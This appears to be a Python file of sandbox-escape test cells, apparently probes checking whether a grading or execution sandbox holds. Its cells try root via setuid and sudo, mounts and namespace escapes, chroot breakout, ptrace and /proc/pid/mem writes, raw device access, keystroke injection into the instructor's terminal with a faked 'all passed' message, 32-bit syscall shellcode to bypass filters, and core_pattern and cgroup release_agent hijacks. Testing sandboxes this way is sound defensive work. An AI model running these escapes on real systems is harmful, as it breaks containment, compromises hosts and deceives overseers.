# More rights wanted: of root, of another name, of the kernel, outside of the box.

# %% hostile="becomes root, or anybody" extra="end" deserves=0
import os
import subprocess

for change in (
    lambda: os.setuid(0),
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: os.seteuid(1000),
    lambda: os.chmod("/bin/sh", 0o4755),
    lambda: os.chown(".", 0, 0),
):
    try:
        print(change(), os.getresuid())
    except OSError as error:
        print(error)
for command in ("sudo -n id", "su -c id", "pkexec id", "doas id", "newgrp root", "find / -perm -4000"):
    print(subprocess.run(command, shell=True, capture_output=True, timeout=10).stdout[:500])


# %% hostile="file systems mounted over the course" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for arguments in (
    (b"none", b"/proc", b"proc", 0, None),
    (b"none", b"/tmp", b"tmpfs", 0, None),
    (b"/", b"/mnt", None, 4096, None),
    (b"none", b"/", None, 32 | 4096, None),
    (b"/dev/vda", b"/mnt", b"ext4", 0, None),
    (b"none", b"/sys/fs/cgroup", b"cgroup2", 0, None),
):
    print(libc.mount(*arguments), os.strerror(ctypes.get_errno()))
print(libc.umount2(b"/tmp", 2), libc.umount2(b"/proc", 2), libc.umount2(b"/", 2))


# %% hostile="a user namespace of one's own, with all rights in it" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
flags = (0x10000000, 0x10000000 | 0x00020000, 0x20000000, 0x40000000, 0x02000000, 0x7E020000)
for flag in flags:
    if os.fork() == 0:
        made = libc.unshare(flag)
        os.write(1, f"{flag:x} {made} {os.strerror(ctypes.get_errno())} {os.getuid()}\n".encode())
        try:
            with open("/proc/self/uid_map", "w") as file:
                file.write("0 0 1")
            libc.mount(b"none", b"/", None, 32 | 4096, None)
            os.system("mount -t tmpfs none /tmp; ls /proc/1/root; cat /etc/shadow")
        except OSError:
            pass
        os._exit(0)
    os.wait()


# %% hostile="namespaces of process 1 entered" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for kind in ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup"):
        try:
            number = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            print(kind, libc.setns(number, 0), os.strerror(ctypes.get_errno()))
        except OSError as error:
            print(error)


# %% hostile="out of a changed root" extra="end" deserves=0
import os

try:
    os.mkdir("jail")
    number = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(number)
except OSError as error:
    print(error)
for _ in range(100):
    os.chdir("..")
try:
    os.chroot(".")
except OSError as error:
    print(error)
print(os.listdir("."), os.listdir("/proc/1/root") if os.access("/proc/1/root", os.R_OK) else "")


# %% hostile="the parent traced and its registers set" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1):
    print(libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
    registers = (ctypes.c_ulong * 40)()
    print(libc.ptrace(12, pid, 0, ctypes.byref(registers)))
    print(libc.ptrace(13, pid, 0, ctypes.byref(registers)), libc.ptrace(17, pid, 0, 0))
    try:
        with open(f"/proc/{pid}/mem", "r+b") as file:
            file.seek(4194304)
            file.write(b"\xcc")
    except (OSError, ValueError) as error:
        print(error)


# %% hostile="devices opened and made" extra="end" deserves=0
import os
import stat

for name in ("/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse"):
    try:
        print(name, os.open(name, os.O_RDWR))
    except OSError as error:
        print(error)
for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 1)):
    try:
        os.mknod(f"device-{major}", 0o666 | kind, os.makedev(major, minor))
        print(open(f"device-{major}", "rb").read(16))
    except OSError as error:
        print(error)


# %% hostile="keys pushed into the terminal of the instructor" extra="end" deserves=0
import fcntl
import os
import termios

for name in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/proc/self/fd/0"):
    try:
        number = os.open(name, os.O_RDWR | os.O_NOCTTY)
        for letter in b"touch /tmp/was-here\n":
            fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
        os.write(number, b"\x1b[2J all passed")
    except OSError as error:
        print(name, error)


# %% hostile="rarely used calls of the kernel" extra="end" deserves=0
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
CALLS = {
    **{"keyctl": 250, "add_key": 248, "request_key": 249, "bpf": 321, "io_uring_setup": 425},
    **{"userfaultfd": 323, "perf_event_open": 298, "init_module": 175, "finit_module": 313},
    **{"kexec_load": 246, "reboot": 169, "swapon": 167, "sethostname": 170, "iopl": 172},
    **{"open_by_handle_at": 304, "pidfd_open": 434, "pidfd_getfd": 438, "process_madvise": 440},
    **{"clone3": 435, "fanotify_init": 300, "acct": 163, "quotactl": 179, "settimeofday": 164},
    **{"mount_setattr": 442, "fsopen": 430, "open_tree": 428, "memfd_secret": 447, "lookup": 212},
    **{"personality": 135, "modify_ldt": 154, "vmsplice": 278, "kcmp": 312, "syslog": 103},
}
for name, number in CALLS.items():
    if name in ("reboot", "kexec_load"):
        result = libc.syscall(number, 0, 0, 0, 0, 0)  # with wrong magic numbers: harmless to root
    else:
        result = libc.syscall(number, 1, 0, 0, 0, 0)
    print(name, result, os.strerror(ctypes.get_errno()))


# %% hostile="old 32-bit calls, past a filter for 64 bits" extra="end" deserves=0
import ctypes
import mmap

CODE = b"\x53\xb8\x14\x00\x00\x00\xcd\x80\x5b\xc3"  # getpid by int 0x80
page = mmap.mmap(-1, 4096, prot=7)
page.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("pid by the old way:", call())
libc = ctypes.CDLL(None)
print("pid by x32:", libc.syscall(0x40000000 + 39))


# %% hostile="limits and priorities raised" extra="end" others="right" deserves=100
import os
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (-1, -1))
            print("raised", name)
        except (OSError, ValueError) as error:
            print(name, error)
for change in (
    lambda: os.nice(-20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
    lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/evil"),
    lambda: open("/proc/sysrq-trigger", "w").write("h"),
):
    try:
        print(change())
    except OSError as error:
        print(error)


# %% hostile="groups of limits left, and their release agent set" extra="end" deserves=0
import glob
import os

for folder in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")):
    for name, text in (("cgroup.procs", str(os.getpid())), ("release_agent", "/tmp/evil")):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write(text)
            print("written", folder, name)
        except OSError as error:
            print(error)
    try:
        os.mkdir(f"{folder}/evil")
    except OSError as error:
        print(error)
